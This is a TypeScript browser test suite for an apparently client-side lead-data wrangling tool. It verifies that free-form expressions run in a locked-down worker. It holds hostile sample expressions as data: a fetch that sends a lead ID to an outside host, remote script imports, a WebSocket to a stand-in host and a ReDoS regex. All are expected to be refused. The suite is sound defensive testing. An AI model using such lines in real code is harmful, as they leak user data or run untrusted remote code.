import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page, WebWorker } from 'puppeteer-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { inRoot } from '../../scripts/lib/files.js';
import { probe, readCounts, visit, type Visit } from './harness';
import { PLACES } from './places';
import { dropFile, mainText, press, untilText } from './steps';

const ROWS = 400;
let folder: string;
let leads: string;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'leadbench-wrangle-'));
  leads = join(folder, 'leads.csv');
  const rows = Array.from({ length: ROWS }, (_, i) => {
    const day = String((i % 28) + 1).padStart(2, '0');
    return `00${1_000_000 + i},${i % 80},2024-0${(i % 9) + 1}-${day} 10:00:00,${i % 3 === 0 ? 'yes' : 'no'}`;
  });
  await writeFile(leads, ['lead_id,age,date,booked', ...rows].join('\n'));
});

afterAll(() => rm(folder, { recursive: true, force: true }));

/** Reads the lead file and waits for the panel. */
async function openLeads(visited: Visit): Promise<void> {
  await untilText(visited.page, 'Drop');
  await dropFile(visited.page, leads);
  await press(visited.page, 'Read the file');
  await untilText(visited.page, 'Free-form step');
}

async function write(page: Page, label: string, text: string): Promise<void> {
  await page.evaluate(
    (wanted, value) => {
      const found = [...document.querySelectorAll('label')].find(
        (one) => one.textContent === wanted,
      );
      const field = found?.control as HTMLInputElement | HTMLTextAreaElement;
      field.value = value;
      field.dispatchEvent(new Event('input', { bubbles: true }));
    },
    label,
    text,
  );
}

async function tryExpression(page: Page, expression: string): Promise<void> {
  await write(page, 'Expression', expression);
  await press(page, 'Try it');
}

/**
 * What code that came past Arquero would meet: a thread of the script whose policy is its own, before
 * any step has taken its doors away, tries each of them.
 */
async function tryDoors(page: Page): Promise<Record<string, string>> {
  const files = await readdir(inRoot('dist', 'assets'));
  const file = files.find((name) => name.startsWith('wrangle.worker-')) ?? '';
  const created = new Promise<WebWorker>((resolve) => {
    page.on('workercreated', (worker) => {
      if (worker.url().includes(file)) resolve(worker);
    });
  });
  await page.evaluate((path) => {
    const worker = new Worker(new URL(path, document.baseURI), { type: 'module' });
    (globalThis as { held?: Worker }).held = worker;
  }, `assets/${file}`);
  const worker = await created;
  return worker.evaluate(async () => {
    const refused = (call: () => unknown): Promise<string> =>
      Promise.resolve(call()).then(
        () => 'answered',
        () => 'refused',
      );
    const run = (code: string): unknown =>
      (Reflect.construct(Function, [`return ${code}`]) as () => unknown)();
    const own = new URL('../index.html', self.location.href).href;
    return {
      code: String(run('1 + 1')),
      data: await refused(() => run("fetch('data:,x')")),
      own: await refused(() => run(`fetch(${JSON.stringify(own)})`)),
      foreign: await refused(() => run("fetch('https://example.org/')")),
      script: await refused(() => run("import('https://example.org/x.js')")),
      ownScript: await refused(() => run(`import(${JSON.stringify(self.location.href)} + '?1')`)),
      dataScript: await refused(() => run("import('data:text/javascript,1')")),
    };
  });
}

describe.each(PLACES)('a free-form step in $name', ({ browser, headers, base }) => {
  let visited: Visit;

  afterEach(() => visited.close());

  it('filters, adds a column, is listed and is undone, while other threads take no code', async () => {
    visited = await visit({ browser, headers, base });
    const { page } = visited;
    await openLeads(visited);

    await tryExpression(page, 'd => d.age >= 21 && d.age <= 55');
    await untilText(page, '400 rows before, 175 after');
    await press(page, 'Apply');
    await untilText(page, 'Undo the last step');
    await press(page, 'Add a column');
    await write(page, 'Name of the new column', 'year');
    await tryExpression(page, 'd => op.year(d.date)');
    await untilText(page, '175 rows before, 175 after');
    await press(page, 'Apply');
    await page.waitForFunction(() => document.querySelectorAll('main ol li').length === 2);
    expect(await mainText(page)).toContain('d => op.year(d.date)');

    await press(page, 'Undo the last step');
    await page.waitForFunction(() => document.querySelectorAll('main ol li').length === 1);
    await press(page, 'Undo the last step');
    await page.waitForFunction(() => document.querySelectorAll('main ol li').length === 0);
    expect(await probe(page)).toMatchObject({ fetchRefused: true, codeRefused: true });
    expect(visited.complaints).toEqual([]);
    expect(visited.foreign).toEqual([]);
    expect(await readCounts(page)).toMatchObject({ refused: 0 });
  });

  it('says what is wrong with an expression, and one that would send reaches nobody', async () => {
    visited = await visit({ browser, headers, base });
    const { page } = visited;
    await openLeads(visited);

    for (const expression of [
      'd => d.nowhere',
      'd => fetch("https://example.org/" + d.lead_id)',
      'd => import("https://example.org/x.js")',
      'd => new WebSocket("wss://example.org/")',
      'd => { while (true); }',
    ]) {
      await tryExpression(page, expression);
      await untilText(page, 'The expression cannot be run');
      await write(page, 'Expression', '');
      await page.evaluate(() => {
        document.querySelector<HTMLElement>('[aria-label="Close"]')?.click();
      });
    }
    expect(visited.foreign).toEqual([]);
  });

  it('would find every door shut if its code came past Arquero', async () => {
    visited = await visit({ browser, headers, base });

    const { code, ...doors } = await tryDoors(visited.page);

    expect(code).toBe('2');
    expect(new Set(Object.values(doors))).toEqual(new Set(['refused']));
    expect(visited.foreign).toEqual([]);
  });

  it('that does not end is cancelled, and the table is still there', async () => {
    visited = await visit({ browser, headers, base });
    const { page } = visited;
    await openLeads(visited);

    const endless = `d => op.match('${'a'.repeat(40)}b', /^(a+)+$/)`;
    await tryExpression(page, endless);
    await page.waitForFunction(() =>
      [...document.querySelectorAll('button')].some((one) => one.textContent.trim() === 'Cancel'),
    );
    await new Promise((resolve) => setTimeout(resolve, 1500));
    await page.evaluate(() => {
      [...document.querySelectorAll('button')]
        .find((one) => one.textContent.trim() === 'Cancel')
        ?.click();
    });
    await untilText(page, 'stopped');
    await tryExpression(page, 'd => d.age < 10');
    await untilText(page, '400 rows before, 50 after');
    expect(await mainText(page)).toContain('Apply');
  });
});
